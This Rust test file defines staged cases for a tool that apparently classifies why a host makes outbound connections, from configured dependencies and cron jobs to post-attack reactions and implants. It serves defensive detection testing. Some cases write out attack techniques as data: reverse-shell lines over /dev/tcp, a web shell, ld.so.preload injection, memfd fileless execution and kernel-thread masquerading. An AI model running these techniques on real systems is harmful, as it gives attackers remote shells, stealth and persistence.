//! Which connections are staged, and what is the cause of each?

use tripoint_model::Verdict;
use tripoint_model::why::Cause::{
    ConfiguredDependency, Implant, InboundReaction, NameDriven, PackageManager, ScheduledJob, Unknown, UserAction,
};

use crate::stage::{CASE, Case};

const CONNECT: &str = "exec 3<>/dev/tcp/ADDR/PORT; read -r _ <&3";

pub const CASES: &[Case] = &[
    // Configured.
    Case { name: "address in a script", cause: ConfiguredDependency, files: &[("/opt/app/run.sh", CONNECT)], run: &["/bin/bash", "/opt/app/run.sh"], ..CASE },
    Case { name: "address in a script of a program without a package", cause: ConfiguredDependency, files: &[("/opt/app/run.sh", CONNECT)], run: &["/opt/app/app", "/opt/app/run.sh"], ..CASE },
    Case { name: "address on the command line", cause: ConfiguredDependency, run: &["/opt/app/app", "/opt/go.sh", "--upstream", "ADDR:PORT"], ..CASE },
    Case { name: "address in a variable", cause: ConfiguredDependency, environment: &[("UPSTREAM", "ADDR:PORT")], ..CASE },
    Case { name: "address as a variable of an address", cause: ConfiguredDependency, environment: &[("DATABASE_URL", "postgres://me:secret@ADDR:PORT/db")], ..CASE },
    Case { name: "name in a variable", cause: ConfiguredDependency, environment: &[("API", "https://api.partner.example/v1")], dns: Some("api.partner.example"), ..CASE },
    Case { name: "name on the command line", cause: ConfiguredDependency, run: &["/opt/app/app", "/opt/go.sh", "--api=api.partner.example"], dns: Some("api.partner.example"), ..CASE },
    Case { name: "name of the hosts file, in a file beside it", cause: ConfiguredDependency, files: &[("/etc/hosts", "ADDR db.partner.example\n"), ("/opt/app/config.yml", "db: db.partner.example\n")], ..CASE },
    Case { name: "file of variables beside it", cause: ConfiguredDependency, files: &[("/opt/app/.env", "HOST=ADDR\nPASSWORD=x\n")], ..CASE },
    Case { name: "file of variables where it works", cause: ConfiguredDependency, files: &[("/srv/shop/.env", "HOST=ADDR\n")], cwd: "/srv/shop", ..CASE },
    Case { name: "compose file where it works", cause: ConfiguredDependency, files: &[("/srv/shop/compose.yaml", "services:\n  a:\n    environment:\n      API: ADDR\n")], cwd: "/srv/shop", ..CASE },
    Case { name: "json beside it", cause: ConfiguredDependency, files: &[("/opt/app/conf/app.json", "{\"peer\":\"ADDR\"}")], ..CASE },
    Case { name: "base64 in a script", cause: ConfiguredDependency, files: &[("/opt/app/run.sh", "# x\ntarget=$(echo aHR0cDovL2FwaS5wYXJ0bmVyLmV4YW1wbGUvdjE= | base64 -d)\nGO")], run: &["/bin/bash", "/opt/app/run.sh"], dns: Some("api.partner.example"), ..CASE },
    Case { name: "nginx upstream", cause: ConfiguredDependency, files: &[("/etc/nginx/nginx.conf", "http {\n include /etc/nginx/conf.d/*.conf;\n}\n"), ("/etc/nginx/conf.d/shop.conf", "upstream shop {\n server ADDR:PORT;\n}\n")], run: &["/usr/sbin/nginx", "/opt/go.sh"], package: Some("nginx"), ..CASE },
    Case { name: "nginx proxy_pass by name", cause: ConfiguredDependency, files: &[("/etc/nginx/nginx.conf", "include sites/*;\n"), ("/etc/nginx/sites/a", "location / { proxy_pass http://api.partner.example; }\n")], run: &["/usr/sbin/nginx", "/opt/go.sh"], dns: Some("api.partner.example"), package: Some("nginx"), ..CASE },
    Case { name: "haproxy server", cause: ConfiguredDependency, files: &[("/etc/haproxy/haproxy.cfg", "backend b\n  server s1 ADDR:PORT check\n")], run: &["/usr/sbin/haproxy", "/opt/go.sh"], package: Some("haproxy"), ..CASE },
    Case { name: "Apache ProxyPass, attacked before", cause: ConfiguredDependency, files: &[("/etc/apache2/apache2.conf", "ProxyPass / http://ADDR:PORT/\n")], run: &["/usr/sbin/apache2", "/opt/go.sh"], attempted: Some(Verdict::Attempted), package: Some("apache2"), ..CASE },
    Case { name: "replica of redis", cause: ConfiguredDependency, files: &[("/etc/redis/redis.conf", "replicaof ADDR PORT\n")], run: &["/usr/sbin/redis-server", "/opt/go.sh"], package: Some("redis-server"), ..CASE },
    Case { name: "unit's command", cause: ConfiguredDependency, files: &[("/etc/systemd/system/sync.service", "[Service]\nExecStart=/opt/app/app --to ADDR\n")], unit: Some("sync.service"), ..CASE },
    Case { name: "unit's drop-in", cause: ConfiguredDependency, files: &[("/etc/systemd/system/sync.service.d/a.conf", "[Service]\nEnvironment=TO=ADDR\n")], unit: Some("sync.service"), ..CASE },
    Case { name: "unit's file of variables", cause: ConfiguredDependency, files: &[("/etc/systemd/system/sync.service", "[Service]\nEnvironmentFile=-/etc/default/sync\n"), ("/etc/default/sync", "TO=ADDR\n")], unit: Some("sync.service"), ..CASE },
    Case { name: "template of a unit", cause: ConfiguredDependency, files: &[("/etc/systemd/system/sync@.service", "[Service]\nExecStart=/opt/app/app ADDR %i\n")], unit: Some("sync@one.service"), ..CASE },
    Case { name: "map of configuration of a pod", cause: ConfiguredDependency, files: &[("/srv/kubernetes.io~configmap/conf/app.txt", "peer ADDR\n"), ("/opt/conf/.keep", "")], before: "mount --bind TEMP/srv/kubernetes.io~configmap/conf TEMP/opt/conf", ..CASE },
    Case { name: "a file that it holds open", cause: ConfiguredDependency, files: &[("/srv/data/peers.txt", "ADDR\n"), ("/opt/app/run.sh", "exec 4</srv/data/peers.txt; GO")], run: &["/opt/app/app", "/opt/app/run.sh"], ..CASE },
    Case { name: "program that was replaced while it ran", cause: ConfiguredDependency, files: &[("/opt/app/.env", "HOST=ADDR\n")], run: &["/opt/app/app", "-c", "cp /opt/app/app /opt/app/n; mv -f /opt/app/n /opt/app/app; GO"], ..CASE },
    Case { name: "library of a package put before others", cause: ConfiguredDependency, environment: &[("LD_PRELOAD", "/lib/x86_64-linux-gnu/libm.so.6"), ("TO", "ADDR")], ..CASE },
    Case { name: "script of CGI with an address", cause: ConfiguredDependency, files: &[("/opt/cgi/pay.sh", CONNECT)], run: &["/usr/sbin/fcgiwrap", "-c", "/bin/bash /opt/cgi/pay.sh; :"], ..CASE },
    // Package managers.
    Case { name: "apt itself", cause: PackageManager, files: &[("/opt/apt/s.list", "deb [trusted=yes] http://ADDR:PORT/ ./\n"), ("/opt/apt/lists/partial/.keep", ""), ("/opt/apt/cache/archives/partial/.keep", "")], run: &["/usr/bin/apt-get", "-o", "Dir::Etc::SourceList=/opt/apt/s.list", "-o", "Dir::Etc::SourceParts=/dev/null", "-o", "Dir::State::Lists=/opt/apt/lists", "-o", "Dir::Cache=/opt/apt/cache", "-o", "APT::Sandbox::User=root", "update"], ..CASE },
    Case { name: "unattended upgrade", cause: PackageManager, run: &["/usr/sbin/unattended-upgrade", "-c", "/bin/bash /opt/go.sh; :"], ..CASE },
    Case { name: "package manager in a session", cause: PackageManager, run: &["/usr/sbin/sshd", "-c", "/bin/bash -c '/usr/sbin/dnf /opt/go.sh; :'; :"], package: Some("dnf"), ..CASE },
    Case { name: "script of a package", cause: PackageManager, run: &["/usr/sbin/dpkg", "-c", "/bin/sh -c 'bash /opt/go.sh; :'; :"], ..CASE },
    // Scheduled.
    Case { name: "job of cron", cause: ScheduledJob, files: &[("/etc/cron.d/sync", "*/5 * * * * root /opt/job.sh ADDR\n")], run: &["/usr/sbin/cron", "-c", "/bin/sh -c 'bash /opt/go.sh; :'; :"], ..CASE },
    Case { name: "script of a job", cause: ScheduledJob, files: &[("/opt/job.sh", CONNECT)], run: &["/usr/sbin/cron", "-c", "/bin/bash /opt/job.sh; :"], ..CASE },
    Case { name: "job of crontab that outlived cron", cause: ScheduledJob, files: &[("/etc/crontab", "1 * * * * root /opt/tools/pusher --to ADDR\n")], run: &["/opt/tools/pusher", "/opt/go.sh"], ..CASE },
    Case { name: "job of at", cause: ScheduledJob, run: &["/usr/sbin/atd", "-c", "/bin/sh -c 'bash /opt/go.sh; :'; :"], ..CASE },
    Case { name: "timer", cause: ScheduledJob, files: &[("/etc/systemd/system/push.timer", "[Timer]\nOnCalendar=daily\n")], unit: Some("push.service"), ..CASE },
    Case { name: "job of continuous integration", cause: ScheduledJob, run: &["/usr/sbin/gitlab-runner", "-c", "/bin/bash -c 'bash /opt/go.sh; :'; :"], ..CASE },
    // People.
    Case { name: "person over ssh", cause: UserAction, run: &["/usr/sbin/sshd", "-c", "/bin/bash -c 'bash /opt/go.sh; :'; :"], ..CASE },
    Case { name: "person over ssh, address typed", cause: UserAction, run: &["/usr/sbin/sshd", "-c", "/bin/bash -c 'exec 3<>/dev/tcp/ADDR/PORT; read -r _ <&3; :'; :"], ..CASE },
    Case { name: "person at the console", cause: UserAction, run: &["/usr/sbin/login", "-c", "/bin/bash -c '/usr/bin/curl -s http://ADDR:PORT/; :'; :"], ..CASE },
    Case { name: "person in tmux", cause: UserAction, run: &["/usr/sbin/tmux", "-c", "/bin/bash -c 'bash /opt/go.sh; :'; :"], ..CASE },
    // Names that nobody configured.
    Case { name: "name that was asked for", cause: NameDriven, run: &["/bin/bash", "/opt/go.sh"], dns: Some("page.stranger.example"), ..CASE },
    Case { name: "name asked for by a packaged program", cause: NameDriven, run: &["/usr/sbin/browser", "/opt/go.sh"], dns: Some("page.stranger.example"), package: Some("browser"), ..CASE },
    // Reactions.
    Case { name: "shell under nginx", cause: InboundReaction, run: &["/usr/sbin/nginx", "-c", "/bin/sh -c 'bash /opt/go.sh; :'; :"], ..CASE },
    Case { name: "curl under Apache", cause: InboundReaction, run: &["/usr/sbin/apache2", "-c", "/bin/sh -c '/usr/bin/curl -s http://ADDR:PORT/x; :'; :"], ..CASE },
    Case { name: "command of PHP after an attack", cause: InboundReaction, run: &["/usr/sbin/php-fpm8.2", "-c", "/bin/sh -c 'bash /opt/go.sh; :'; :"], attempted: Some(Verdict::LikelySucceeded), ..CASE },
    Case { name: "program of a database", cause: InboundReaction, run: &["/usr/sbin/postgres", "-c", "/bin/sh -c 'bash /opt/go.sh; :'; :"], ..CASE },
    Case { name: "web shell in a served folder", cause: InboundReaction, files: &[("/srv/www/html/up.sh", CONNECT)], run: &["/usr/sbin/php-fpm", "-c", "/bin/bash /srv/www/html/up.sh; :"], ..CASE },
    Case { name: "reverse shell under Tomcat", cause: InboundReaction, run: &["/usr/sbin/tomcat", "-c", "/bin/bash -c 'read -r h p; exec 3<>/dev/tcp/$h/$p; exec bash <&3 >&3 2>&1'; :"], ..CASE },
    Case { name: "server that calls out after an attack", cause: InboundReaction, run: &["/usr/sbin/apache2", "/opt/go.sh"], attempted: Some(Verdict::Attempted), package: Some("apache2"), ..CASE },
    // Implants.
    Case { name: "program in the shared memory", cause: Implant, run: &["/dev/shm/STAGED", "/opt/go.sh"], before: "cp /bin/bash /dev/shm/STAGED", ..CASE },
    Case { name: "program in the folder for temporary files", cause: Implant, run: &["TEMP/tmp/updater", "/opt/go.sh"], ..CASE },
    Case { name: "program in a temporary folder, given the address", cause: Implant, run: &["TEMP/tmp/x", "/opt/go.sh", "ADDR"], ..CASE },
    Case { name: "false package manager", cause: Implant, run: &["TEMP/tmp/apt", "/opt/go.sh"], ..CASE },
    Case { name: "deleted program", cause: Implant, run: &["/opt/app/gone", "-c", "/usr/bin/rm -f /opt/app/gone; GO"], ..CASE },
    Case { name: "program in memory", cause: Implant, run: &["/usr/bin/python3", "-c", "import os\nf = os.memfd_create('x', 0)\nos.write(f, open('/bin/bash', 'rb').read())\nos.execv('/proc/self/fd/%d' % f, ['x', '/opt/go.sh'])"], ..CASE },
    Case { name: "library put before others", cause: Implant, environment: &[("LD_PRELOAD", "/opt/lib/libhide.so")], before: "mkdir -p TEMP/opt/lib && cp /lib/x86_64-linux-gnu/libm.so.6 TEMP/opt/lib/libhide.so", ..CASE },
    Case { name: "library put before all programs", cause: Implant, files: &[("/etc/ld.so.preload", "/opt/lib/libhide.so\n")], before: "mkdir -p TEMP/opt/lib && cp /lib/x86_64-linux-gnu/libm.so.6 TEMP/opt/lib/libhide.so", run: &["/bin/bash", "/opt/go.sh"], ..CASE },
    Case { name: "reverse shell that nobody started", cause: Implant, run: &["/bin/bash", "-c", "read -r h p; exec 3<>/dev/tcp/$h/$p; exec bash <&3 >&3 2>&1"], ..CASE },
    Case { name: "script in a temporary folder", cause: Implant, files: &[("/tmp/x.sh", "GO")], run: &["/bin/bash", "TEMP/tmp/x.sh"], ..CASE },
    Case { name: "program that calls itself a thread of the kernel", cause: Implant, run: &["/bin/bash", "-c", "exec -a '[kworker/0:1]' /bin/bash /opt/go.sh"], ..CASE },
    // What cannot be known.
    Case { name: "program without a package, named nowhere", ..CASE },
    Case { name: "packaged program, named nowhere", run: &["/bin/bash", "/opt/go.sh"], ..CASE },
    Case { name: "address in a comment", files: &[("/opt/app/app.conf", "# peer = ADDR\n")], ..CASE },
    Case { name: "address that is refused", files: &[("/opt/app/app.conf", "deny ADDR;\n")], ..CASE },
    Case { name: "address of a neighbour", files: &[("/opt/app/app.conf", "peer = ADDR0\npeer = 1ADDR\n")], ..CASE },
    Case { name: "job of another program", files: &[("/etc/cron.d/other", "1 * * * * root /opt/other --to ADDR\n")], ..CASE },
    Case { name: "log that it writes", files: &[("/opt/app/run.sh", "exec 4>>/srv/out.txt; echo met ADDR >&4; GO")], run: &["/opt/app/app", "-c", "exec 4>>/srv/out.txt; GO"], ..CASE },
    Case { name: "own name for a program that hides in a session", cause: Unknown, run: &["/usr/sbin/sshd", "-c", "/bin/bash -c 'TEMP/tmp/tool /opt/go.sh; :'; :"], ..CASE },
];
